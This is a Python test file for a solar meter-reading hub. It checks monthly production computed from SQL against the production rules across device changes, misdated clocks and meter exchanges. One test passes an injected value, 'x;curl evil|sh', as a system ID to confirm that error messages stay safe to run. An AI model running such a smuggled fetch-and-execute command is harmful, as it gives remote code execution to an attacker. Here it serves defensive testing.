"""Production out of SQL: the same numbers as the rules give on the plain list of readings."""

from __future__ import annotations

import itertools
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hub.errors import UnknownSubjectError
from hub.rules.periods import parse_month
from hub.rules.production import Reading, monthly_production
from hub.services.accept_blocks import Arrival, accept_blocks
from hub.services.compute_production import compute_month, compute_months
from hub.services.end_meter import EndRequest, end_meter
from hub.services.open_hub import open_hub
from hub.services.read_fleet import read_fleet
from hub.services.register_device import register_device
from hub.services.register_meter import MeterRequest, register_meter
from hub.services.register_system import register_system
from hub.store import ownership, registry, series
from protocol.identity import BootId
from protocol.messages import TimeQuality
from tests.hub.conftest import SYSTEM
from tests.hub.making import GENERATED, JULY_AT, NOW, TERMS, MadeDevice, fetch, make_meter, make_readings

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    from hub.store.database import Database

DAY_MS = 86_400_000
JULY = parse_month("2016-07")


def _log(counts: list[int], step_ms: int = DAY_MS) -> MadeDevice:
    device = MadeDevice()
    device.seal(make_meter())
    for place in range(0, len(counts), 10):
        part = counts[place : place + 10]
        device.seal(make_readings(make_meter(), part, JULY_AT + place * step_ms, step_ms))
    return device


def test_a_finished_month_is_exact_and_names_its_readings(registered: Database) -> None:
    """July is what the register showed at its end less what it showed at its start."""
    device = _log([5000 + 321 * day for day in range(45)])
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    with registered.read() as connection:
        july = compute_month(connection, SYSTEM, JULY)
        months = compute_months(connection, SYSTEM)
    assert (july.production.production_wh, july.production.complete) == (31 * 321, True)
    assert [str(month.production.month) for month in months] == ["2016-08", "2016-07"]
    (part,) = july.meters
    assert part.production.opening is not None
    assert part.production.closing is not None
    assert (part.production.opening.read_at, part.production.closing.read_at) == (JULY.starts_at, JULY.ends_at)


@dataclass(frozen=True)
class _Taken:
    """A reading as it was taken: by which device, after which step of the register, with which quality."""

    device: int
    read_at: int
    step_wh: int
    quality: TimeQuality


@st.composite
def taken(draw: st.DrawFn) -> list[_Taken]:
    """Return readings by two devices, one after or among the other, some with clocks unverified or plainly wrong."""
    wrong = st.sampled_from([1_000_000, NOW + 2 * DAY_MS])
    right = st.integers(JULY_AT, JULY_AT + 70 * DAY_MS)
    times = draw(st.lists(st.one_of(right, right, right, right, wrong), min_size=1, max_size=40, unique=True))
    steps = st.integers(-200, 3_000)
    qualities = st.sampled_from([TimeQuality.UNKNOWN, *[TimeQuality.SYNCHRONISED] * 4])
    replaced_at = draw(st.one_of(st.just(0), right))
    strays = draw(st.sets(st.integers(0, len(times) - 1), max_size=3))
    return [
        _Taken(1 + ((at < replaced_at) ^ (place in strays)), at, draw(steps), draw(qualities))
        for place, at in enumerate(sorted(times))
    ]


def _take(made: Sequence[_Taken]) -> tuple[list[Arrival], list[Reading]]:
    """Return the blocks of the devices that took these readings, and the readings as the rules know them."""
    devices = {number: MadeDevice(seed=number) for number in (1, 2)}
    meter = make_meter()
    for device in devices.values():
        device.seal(meter)
    readings = []
    for one, gained_wh in zip(made, itertools.accumulate(one.step_wh for one in made), strict=True):
        device, register_wh = devices[one.device], max(0, 1000 + gained_wh)
        # An unverified clock is that of a boot which never knew the time: else the hub would place its readings.
        boot_id = BootId(b"lost") if one.quality is TimeQuality.UNKNOWN else None
        frame = replace(make_readings(meter, [register_wh], one.read_at), quality=(one.quality,), boot_id=boot_id)
        device.seal(frame)
        readings.append(
            Reading(
                register_id=one.device,
                instrument="CCS WattNode",
                read_at=one.read_at,
                register_wh=register_wh,
                raw=register_wh,
                resolution_wh=1,
                modulus_wh=1 << 32,
                ratio=(1, 1),
                time_quality=one.quality,
                device=device.id,
                epoch=device.epoch,
                seq=len(device.blocks) - 1,
                received_at=NOW,
            )
        )
    return [arrival for device in devices.values() for arrival in device.arrivals()], readings


def _check_agreement(folder: Path, made: Sequence[_Taken], read_until: int | None, order: Sequence[int]) -> None:
    """Give the blocks to a hub in this order of places, and compare each of its months with the rules on everything."""
    arrivals, readings = _take(made)
    database = open_hub(folder / "hub", new_timeline=b"timeline", at=NOW)
    try:
        register_system(database, SYSTEM, "", "7.5", NOW)
        for seed in (1, 2):
            register_device(database, MadeDevice(seed).pem, "", NOW)
            meter = register_meter(database, MeterRequest(SYSTEM, MadeDevice(seed).text, "WN-1001"), NOW)
        for _, arrival in sorted(zip(order, arrivals, strict=True), key=lambda pair: pair[0]):
            accept_blocks(database, [arrival], TERMS, NOW)
        with database.write() as connection:
            registry.save_meter(connection, replace(meter, read_until=read_until), NOW)
        with database.read() as connection:
            months = compute_months(connection, SYSTEM)
            rows = connection.exec_driver_sql("SELECT device, id FROM register").all()
    finally:
        database.close()
    numbers = {row.device: row.id for row in rows}
    expected = [replace(reading, register_id=numbers[reading.device]) for reading in readings]
    for month in months:
        for part in month.meters:
            assert part.production == monthly_production(part.production.month, expected, 7500, read_until)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(made=taken(), data=st.data())
def test_what_sql_fetches_decides_as_all_readings_do(
    tmp_path_factory: pytest.TempPathFactory, made: list[_Taken], data: st.DataObject
) -> None:
    """For any register and clock, in any order of arrival, the few readings fetched give what all of them give."""
    read_until = data.draw(st.one_of(st.none(), st.integers(JULY_AT, JULY_AT + 70 * DAY_MS)))
    order = data.draw(st.permutations(range(len(made) + 2)))
    _check_agreement(tmp_path_factory.mktemp("agree"), made, read_until, order)


@pytest.mark.parametrize(
    ("days", "read_until_day"),
    [
        ([(0, 1, 1000), (2, 1, 200), (4, 1, 300), (5, 2, -1000), (9, 2, 900), (20, 1, 200), (40, 2, 100)], None),
        ([(0, 1, 1000), (9, 1, 50), (14, 1, 50), (29, 0, 50), (35, 1, 50)], None),
        ([(0, 1, 1000), (4, 1, 50), (18, 1, 50), (24, 1, 90), (35, 1, 50)], 19),
    ],
    ids=["a register reset while devices change", "an unverified reading nearest to the edge", "a meter that ended"],
)
def test_readings_far_from_any_edge_are_fetched_where_they_decide(
    tmp_path: Path, days: list[tuple[int, int, int]], read_until_day: int | None
) -> None:
    """What decides a month though it stands beside no edge of it: (day, device or 0 for an unverified clock, step)."""
    made = [
        _Taken(device or 1, JULY_AT + day * DAY_MS, step, TimeQuality.SYNCHRONISED if device else TimeQuality.UNKNOWN)
        for day, device, step in days
    ]
    read_until = None if read_until_day is None else JULY_AT + read_until_day * DAY_MS
    _check_agreement(tmp_path, made, read_until, range(len(made) + 2))


def test_readings_before_the_registration_count(database: Database) -> None:
    """A meter registered late owns the readings that came before."""
    device = _log([5000 + 321 * day for day in range(45)])
    register_device(database, device.pem, "", NOW)
    accept_blocks(database, device.arrivals(), TERMS, NOW)
    register_system(database, SYSTEM, "", "7.5", NOW)
    with database.read() as connection, pytest.raises(UnknownSubjectError, match="no reading in 2016-07"):
        compute_month(connection, SYSTEM, JULY)
    register_meter(database, MeterRequest(SYSTEM, device.text, "WN-1001"), NOW)
    with database.read() as connection:
        assert compute_month(connection, SYSTEM, JULY).production.production_wh == 31 * 321


def test_a_scale_that_changes_keeps_the_register(registered: Database) -> None:
    """A meter that begins to show tenths of a kWh is still the same register: energy is compared, not counts."""
    coarse = make_meter(register=replace(GENERATED, scale_exponent=2))
    device = MadeDevice()
    device.seal(make_meter(), make_readings(make_meter(), [10_000], JULY.starts_at))
    device.seal(coarse, make_readings(coarse, [150], JULY.ends_at))
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    with registered.read() as connection:
        july = compute_month(connection, SYSTEM, JULY)
    assert (july.production.production_wh, july.production.resolution_wh) == (5000, 100)


def test_a_reading_from_a_clock_never_set_decides_no_month(registered: Database) -> None:
    """What a device dated 1970 is kept, and opens no month."""
    device = MadeDevice()
    device.seal(make_meter(), make_readings(make_meter(), [1], 1_000_000))
    device.seal(make_readings(make_meter(), [5000, 9000], JULY.starts_at, JULY.ends_at - JULY.starts_at))
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    assert fetch(registered, "SELECT count(*) FROM reading") == [(3,)]
    with registered.read() as connection:
        months = compute_months(connection, SYSTEM)
    assert [(str(month.production.month), month.production.production_wh) for month in months] == [("2016-07", 4000)]


def test_a_decrease_at_one_instant_is_found(registered: Database) -> None:
    """After a step of the clock two readings may have the same time; a register that went down between them is seen."""
    device = MadeDevice()
    device.seal(make_meter(), make_readings(make_meter(), [100, 150], JULY_AT, DAY_MS))
    device.seal(make_readings(make_meter(), [200], JULY_AT + DAY_MS))
    device.seal(make_readings(make_meter(), [300], JULY.ends_at))
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    with registered.read() as connection:
        (part,) = compute_month(connection, SYSTEM, JULY).meters
    assert [str(finding.kind) for finding in part.production.findings] == ["register_decreased"]


def test_a_reading_dated_in_the_future_decides_no_month(registered: Database) -> None:
    """What a device dated beyond its receipt, in this century or in no calendar, is kept and makes no month."""
    device = _log([5000 + 321 * day for day in range(45)])
    for read_at in (NOW + 2 * DAY_MS, 48_291_034_819_000, 281_474_976_710_655):
        device.seal(make_readings(make_meter(), [9_000_000], read_at))
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    assert fetch(registered, "SELECT count(*) FROM reading") == [(48,)]
    with registered.read() as connection:
        months = compute_months(connection, SYSTEM)
        (meter,) = registry.list_meters(connection, SYSTEM)
        registers = ownership.registers_of(connection, meter)
        last = series.last_reading(connection, registers)
        (finding,) = read_fleet(connection, NOW).findings
        assert series.list_drops(connection, registers) == ()
    assert (finding.code, finding.text.partition(":")[0]) == ("reading_misdated", "3 readings are kept but not counted")
    assert [str(month.production.month) for month in months] == ["2016-08", "2016-07"]
    assert (months[1].production.production_wh, months[1].production.complete) == (31 * 321, True)
    assert last is not None
    assert last.read_at == JULY_AT + 44 * DAY_MS


def test_a_month_without_reading_is_there_and_has_no_number(registered: Database) -> None:
    """Both ways of asking give the same month: no number, the reason, and the energy in the next month."""
    device = MadeDevice()
    device.seal(make_meter(), make_readings(make_meter(), [1000, 5000], JULY_AT, 10 * DAY_MS))
    device.seal(make_readings(make_meter(), [9000], parse_month("2016-09").starts_at + DAY_MS))
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    with registered.read() as connection:
        months = compute_months(connection, SYSTEM)
        august = compute_month(connection, SYSTEM, parse_month("2016-08"))
    assert [month.production.production_wh for month in months] == [4000, None, 4000]
    assert august == months[1]
    assert august.meters[0].production.basis == "No reading in this month."


def test_a_month_outside_the_readings_is_told_the_first_and_the_last(registered: Database) -> None:
    """Who asks for a month without data learns which months have them."""
    with registered.read() as connection, pytest.raises(UnknownSubjectError, match="nor in any other month"):
        compute_month(connection, SYSTEM, JULY)
    accept_blocks(registered, _log([5000] * 45).arrivals(), TERMS, NOW)
    for text in ("2016-06", "2016-09", "2999-12"):
        with registered.read() as connection, pytest.raises(UnknownSubjectError) as caught:
            compute_month(connection, SYSTEM, parse_month(text))
        assert f"no reading in {text}: its first month is 2016-07, its last 2016-08" in str(caught.value)


def test_two_makes_with_one_serial_give_no_number(registered: Database) -> None:
    """Where two instruments answer to the meter's serial number there is a finding; --make makes it a number again."""
    device = _log([5000 + 321 * day for day in range(45)])
    other = replace(make_meter(index=1), make="EIG", model="Shark 200")
    device.seal(other, make_readings(other, [70_000, 80_000], JULY_AT + DAY_MS, DAY_MS))
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    with registered.read() as connection:
        july = compute_month(connection, SYSTEM, JULY)
    assert (july.production.production_wh, july.production.complete) == (None, False)
    assert [str(finding.kind) for finding in july.meters[0].production.findings] == ["register_changed"]
    register_meter(registered, MeterRequest(SYSTEM, device.text, "WN-1001", make="CCS"), NOW)
    with registered.read() as connection:
        july = compute_month(connection, SYSTEM, JULY)
    assert (july.production.production_wh, july.production.complete) == (31 * 321, True)


def test_after_an_exchange_months_are_complete_again(registered: Database) -> None:
    """The old meter counts to its end; from the next month on the new one alone makes the month, with its readings."""
    device = _log([5000 + 321 * day for day in range(12)])
    new = make_meter(index=1, serial="NEW-7")
    device.seal(new, make_readings(new, [10 * day for day in range(52)], JULY_AT + 11 * DAY_MS, DAY_MS))
    register_meter(registered, MeterRequest(SYSTEM, device.text, "NEW-7"), NOW)
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    with registered.read() as connection:
        assert not compute_month(connection, SYSTEM, parse_month("2016-08")).production.complete
    end_meter(registered, EndRequest(SYSTEM, "WN-1001", "2016-07-12T04:00:00Z"), NOW)
    with registered.read() as connection:
        august, july = compute_months(connection, SYSTEM)
    assert (august.production.production_wh, august.production.complete) == (310, True)
    assert [part.meter.serial for part in august.meters] == ["NEW-7"]
    assert (july.production.production_wh, july.production.complete) == (11 * 321 + 200, False)


def test_a_replaced_device_goes_on_with_the_meter(registered: Database) -> None:
    """A new device is added to the meter by registering it again; the month over the change is one difference."""
    accept_blocks(registered, _log([5000 + 321 * day for day in range(12)]).arrivals(), TERMS, NOW)
    device = MadeDevice(seed=2)
    device.seal(make_meter())
    device.seal(make_readings(make_meter(), [5000 + 321 * day for day in range(12, 32)], JULY_AT + 12 * DAY_MS, DAY_MS))
    register_device(registered, device.pem, "", NOW)
    accept_blocks(registered, device.arrivals(), TERMS, NOW)
    added = register_meter(registered, MeterRequest(SYSTEM, device.text, "WN-1001"), NOW + 1)
    assert added.devices == (MadeDevice().id, device.id)
    with registered.read() as connection:
        july = compute_month(connection, SYSTEM, JULY)
    assert (july.production.production_wh, july.production.complete) == (31 * 321, True)
    (part,) = july.meters
    assert part.production.opening is not None
    assert part.production.closing is not None
    assert (part.production.opening.device, part.production.closing.device) == (MadeDevice().id, device.id)


@pytest.mark.parametrize(
    ("pts_id", "words"),
    [
        ("NOPE", "`meter-hub system add NOPE --capacity-kw-dc KW`"),
        ("SLF-AB1234-00010", f"did you mean {SYSTEM}?"),
        ("x;curl evil|sh", "not how a PTS id is written"),
        ("x" * 5000, "not how a PTS id is written"),
    ],
)
def test_an_unknown_system_is_named(registered: Database, pts_id: str, words: str) -> None:
    """Who asks for a system that is not here is told its name and what to do, in words that are safe to run."""
    with registered.read() as connection, pytest.raises(UnknownSubjectError, match="is not registered") as caught:
        compute_months(connection, pts_id)
    assert words in str(caught.value)
    assert "evil" not in str(caught.value).partition("`")[2]
    assert len(str(caught.value)) < 250
